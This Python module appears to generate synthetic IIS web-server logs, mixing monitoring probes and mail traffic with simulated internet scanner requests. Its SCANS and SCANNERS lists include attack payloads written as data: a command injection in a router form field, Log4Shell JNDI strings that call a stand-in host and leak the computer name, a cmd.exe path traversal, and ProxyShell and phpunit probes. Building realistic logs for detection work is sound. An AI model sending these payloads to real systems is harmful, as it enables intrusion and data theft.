"""Everything else that reaches the web server: probes, mail, scanners."""

import times
from iis import Row

BROWSERS = [
    "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,"
    "+like+Gecko)+Chrome/123.0.0.0+Safari/537.36",
    "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64;+rv:124.0)+Gecko/20100101"
    "+Firefox/124.0",
    "Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook"
    "+16.0.17328;+Pro)",
    "Apple-iPhone14C5/2104.101",
]
MAIL = [
    ("GET", "/owa/", "-", 302), ("POST", "/owa/service.svc",
                                 "action=GetConversationItems&ID=-%d", 200),
    ("POST", "/EWS/Exchange.asmx", "-", 200),
    ("POST", "/Microsoft-Server-ActiveSync/default.eas",
     "User=jdoe&DeviceId=APPL%d&DeviceType=iPhone&Cmd=Ping", 200),
    ("GET", "/owa/auth/logon.aspx", "url=https%%3a%%2f%%2fscep.contoso.com"
     "%%2fowa%%2f&reason=0", 200),
    ("GET", "/intranet/default.aspx", "-", 401),
    ("GET", "/intranet/img/logo.png", "-", 304),
]
SCANS = [
    ("GET", "/.env", "-", 404, 0, 2),
    ("GET", "/wp-login.php", "-", 404, 0, 2),
    ("GET", "/wp-content/plugins/wp-file-manager/readme.txt", "-", 404, 0, 3),
    ("GET", "/manager/html", "-", 404, 0, 2),
    ("GET", "/cgi-bin/luci/;stok=/locale", "form=country&operation=write"
     "&country=$(id>/tmp/x)", 404, 0, 3),
    ("GET", "/actuator/health", "-", 404, 0, 2),
    ("POST", "/boaform/admin/formLogin", "-", 404, 0, 2),
    ("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "-",
     404, 0, 3),
    ("GET", "/autodiscover/autodiscover.json",
     "@zdi/PowerShell?serializationLevel=Full", 404, 0, 2),
    ("GET", "/", "x=${jndi:ldap://198.51.100.77:1389/a}", 200, 0, 0),
    ("GET", "/solr/admin/info/system", "wt=json", 404, 0, 2),
    ("GET", "/.git/config", "-", 404, 8, 0),
    ("GET", "/..%c0%af../winnt/system32/cmd.exe", "/c+dir", 404, 0, 123),
    ("GET", "/robots.txt", "-", 404, 0, 2),
    ("GET", "/favicon.ico", "-", 404, 0, 2),
    ("HEAD", "/", "-", 200, 0, 0),
    ("GET", "/certsrv/", "-", 401, 2, 5),
]
SCANNERS = [
    "Mozilla/5.0+zgrab/0.x", "-", "python-requests/2.31.0",
    "Mozilla/5.0+(compatible;+CensysInspect/1.1;"
    "++https://about.censys.example/)",
    "${jndi:ldap://198.51.100.77:1389/${env:COMPUTERNAME}}",
    "curl/8.5.0", "masscan/1.3+(https://scan.example)",
]
PROBE = "check_http/v2.3.3+(monitoring-plugins+2.3.3)"
BALANCER = "HealthProbe/2.1"


def _span(start, end, every, jitter, rng):
    t = start + rng.below(every)
    while t < end:
        yield t + rng.below(jitter)
        t += every


def monitors(server, rng, start, end, bare=(403, 0, 0), caps=200):
    """Probes of the web server, of bare mscep.dll and of GetCACaps."""
    for t in _span(start, end, 15 * times.MINUTE, 900, rng):
        yield Row(t, "GET", "/iisstart.htm", "-", server.monitor, PROBE, 200,
                  taken=rng.below(16), port=80, server=server.address)
    if bare:
        for t in _span(start, end, 30 * times.MINUTE, 400, rng):
            yield Row(t, "GET", "/certsrv/mscep/mscep.dll", "-",
                      server.balancer, BALANCER, *bare,
                      taken=rng.below(32), server=server.address)
    if caps:
        for t in _span(start, end, 60 * times.MINUTE, 900, rng):
            yield Row(t, "GET", "/certsrv/mscep/mscep.dll",
                      "operation=GetCACaps&message=test", server.monitor,
                      PROBE, caps, taken=rng.below(16),
                      server=server.address)


def mail(server, rng, start, end, every=24 * times.MINUTE):
    for t in _span(start, end, every, 2 * times.MINUTE, rng):
        method, stem, query, status = rng.pick(MAIL)
        if "%" in query:
            query = query.replace("%d", str(rng.below(90000)))
            query = query.replace("%%", "%")
        client = "10.20.%d.%d" % (rng.between(30, 34), rng.between(10, 250))
        yield Row(t, method, stem, query, client, rng.pick(BROWSERS), status,
                  sub=2 if status == 401 else 0,
                  win32=64 if rng.chance(3) else
                  (2148074254 if status == 401 else 0),
                  taken=rng.between(1, 900), server=server.address,
                  user="-" if status != 200 or rng.chance(50)
                  else "CONTOSO\\user%d" % rng.below(60))


def scanners(server, rng, start, end, every=4 * times.HOUR):
    for t in _span(start, end, every, times.HOUR, rng):
        client = "%s.%d" % (rng.pick(["203.0.113", "198.51.100",
                                      "192.0.2"]), rng.between(2, 250))
        agent = rng.pick(SCANNERS)
        for _ in range(rng.between(2, 14)):
            method, stem, query, status, sub, win32 = rng.pick(SCANS)
            t += rng.between(80, 2400)
            yield Row(t, method, stem, query, client, agent, status, sub,
                      win32, rng.below(60), server=server.address,
                      port=rng.pick([80, 443]))


def all_of(server, rng, start, end, **monitor):
    rows = list(monitors(server, rng, start, end, **monitor))
    rows += mail(server, rng, start, end)
    rows += scanners(server, rng, start, end)
    for row in rows:
        if rng.chance(8):
            row.late = rng.between(200, 1400)
    return [r for r in rows if r.end + r.late < end]
